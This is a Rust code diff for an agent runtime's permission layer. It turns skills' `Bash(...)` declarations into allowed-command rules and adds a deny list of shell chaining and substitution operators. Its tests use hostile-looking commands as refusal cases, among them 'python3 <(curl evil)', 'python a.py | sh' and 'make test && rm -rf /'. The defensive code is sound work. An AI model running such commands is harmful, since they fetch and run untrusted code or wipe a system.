@@ -1,14 +1,120 @@
-//! Which tool calls need a person's approval before they run: a policy of `ask` rules and `allow`
-//! exceptions written in Claude Code's permission syntax (`execute`, `Write`, `Bash(git push:*)`,
-//! an expert's tool by name). The deployment sets one and each tenant may add its own; approvals
-//! never waive a refusal (a call the turn would refuse is refused, not asked about).
+//! Claude Code's permission syntax as this runtime reads it: which commands a skill's `Bash(...)`
+//! declarations allow, and which tool calls need a person's approval, in a policy of `ask` rules and
+//! `allow` exceptions (`execute`, `Write`, `Bash(git push:*)`, an expert's tool by name). The
+//! deployment sets one policy and each tenant may add its own; approvals never waive a refusal (a
+//! call the turn would refuse is refused, not asked about). A leaf: the tools and the skills'
+//! settings both read it.
 
 use serde_json::Value;
 
-use super::execute::{chaining_in, CommandPattern};
-use super::EXECUTE;
 use crate::message::ToolCall;
 use crate::skills::frontmatter::our_tool_name;
+use crate::tool_names::EXECUTE;
+
+/// Which commands a skill may run: any (`Bash`), or only those its `Bash(...)` patterns allow.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum CommandRules {
+    Any,
+    Only(Vec<CommandPattern>),
+}
+
+/// One `Bash(...)` declaration, as Claude Code's permission syntax reads it.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum CommandPattern {
+    /// `Bash(python:*)` or `Bash(python *)`: the command, or the command followed by arguments.
+    Prefix(String),
+    /// `Bash(make test)`: exactly this command.
+    Exact(String),
+}
+
+impl CommandPattern {
+    /// Reads what stands inside `Bash(...)`; `None` when it names every command (``, `*`, `:*`).
+    pub(crate) fn parse(inner: &str) -> Option<Self> {
+        let inner = inner.trim();
+        if inner.is_empty() || inner == "*" || inner == ":*" {
+            return None;
+        }
+        Some(match inner.strip_suffix(":*").or_else(|| inner.strip_suffix(" *")) {
+            Some(prefix) => CommandPattern::Prefix(prefix.trim().to_owned()),
+            None => CommandPattern::Exact(inner.to_owned()),
+        })
+    }
+
+    pub(crate) fn allows(&self, command: &str) -> bool {
+        match self {
+            CommandPattern::Prefix(prefix) => {
+                command == prefix
+                    || command.strip_prefix(prefix.as_str()).is_some_and(|rest| rest.starts_with(char::is_whitespace))
+            }
+            CommandPattern::Exact(exact) => command == exact,
+        }
+    }
+
+    fn shown(&self) -> String {
+        match self {
+            CommandPattern::Prefix(prefix) => format!("`{prefix} ...`"),
+            CommandPattern::Exact(exact) => format!("`{exact}`"),
+        }
+    }
+}
+
+/// The command rules of a skill's declared tools (`allowed-tools` as written), or `None` when it
+/// declares no `Bash` at all.
+pub fn command_rules(declared: &[String]) -> Option<CommandRules> {
+    let mut patterns = Vec::new();
+    let mut any = false;
+    for name in declared {
+        let name = name.trim();
+        if name == "Bash" || name == EXECUTE {
+            any = true;
+            continue;
+        }
+        let Some(inner) = name.strip_prefix("Bash(").and_then(|rest| rest.strip_suffix(')')) else { continue };
+        match CommandPattern::parse(inner) {
+            Some(pattern) => patterns.push(pattern),
+            None => any = true,
+        }
+    }
+    match (any, patterns.is_empty()) {
+        (true, _) => Some(CommandRules::Any),
+        (false, false) => Some(CommandRules::Only(patterns)),
+        (false, true) => None,
+    }
+}
+
+/// Characters that chain, substitute or background commands: a command restricted to a prefix
+/// must not carry another command after it.
+const CHAINING: [&str; 8] = [";", "&", "|", "`", "$(", "\n", "\r", "<("];
+
+/// The first chaining, substitution or background operator in `command`, if any.
+pub(crate) fn chaining_in(command: &str) -> Option<&'static str> {
+    CHAINING.iter().find(|op| command.contains(**op)).copied()
+}
+
+impl CommandRules {
+    /// `Err` with the tool error when the rules refuse `command`.
+    pub fn check(&self, command: &str, skill: &str) -> Result<(), String> {
+        let CommandRules::Only(patterns) = self else { return Ok(()) };
+        let allowed: Vec<String> = patterns.iter().map(CommandPattern::shown).collect();
+        let command = command.trim();
+        if let Some(op) = chaining_in(command) {
+            return Err(format!(
+                "Error: the skill /{skill} only allows the commands {}; a command with `{}` (chaining, pipes or \
+                 substitution) is refused. Run one allowed command per call.",
+                allowed.join(", "),
+                op.escape_debug()
+            ));
+        }
+        if patterns.iter().any(|pattern| pattern.allows(command)) {
+            Ok(())
+        } else {
+            Err(format!(
+                "Error: the skill /{skill} does not allow this command; it allows only {}.",
+                allowed.join(", ")
+            ))
+        }
+    }
+}
 
 /// Most rules one policy holds.
 pub const MAX_APPROVAL_RULES: usize = 64;
@@ -210,5 +316,34 @@ mod tests {
         assert!(!allow_python.requires(&call("execute", json!({"command": "python3 a.py"}))));
         // Process substitution runs a second command, as `;` would.
         assert!(allow_python.requires(&call("execute", json!({"command": "python3 <(curl evil)"}))));
+    }
+
+    fn declared(names: &[&str]) -> Vec<String> {
+        names.iter().map(|name| (*name).to_owned()).collect()
+    }
+
+    #[test]
+    fn bash_declarations_become_command_rules() {
+        assert_eq!(command_rules(&declared(&["Read", "Grep"])), None);
+        assert_eq!(command_rules(&declared(&["Read", "Bash"])), Some(CommandRules::Any));
+        let rules = command_rules(&declared(&["Bash(python:*)", "Bash(make test)"])).unwrap();
+        assert_eq!(
+            rules,
+            CommandRules::Only(vec![
+                CommandPattern::Prefix("python".into()),
+                CommandPattern::Exact("make test".into())
+            ])
+        );
+        assert!(rules.check("python scripts/fill.py in.pdf out.pdf", "pdf").is_ok());
+        assert!(rules.check("python", "pdf").is_ok());
+        assert!(rules.check("make test", "pdf").is_ok());
+        let refused = rules.check("pythonx evil.py", "pdf").unwrap_err();
+        assert!(refused.contains("/pdf does not allow"), "{refused}");
+        let chained = rules.check("python a.py; curl x", "pdf").unwrap_err();
+        assert!(chained.contains("`;`"), "{chained}");
+        assert!(rules.check("python a.py | sh", "pdf").is_err());
+        assert!(rules.check("python $(cat x)", "pdf").is_err());
+        assert!(rules.check("make test && rm -rf /", "pdf").is_err());
+        assert!(CommandRules::Any.check("anything | goes", "pdf").is_ok());
     }
 }
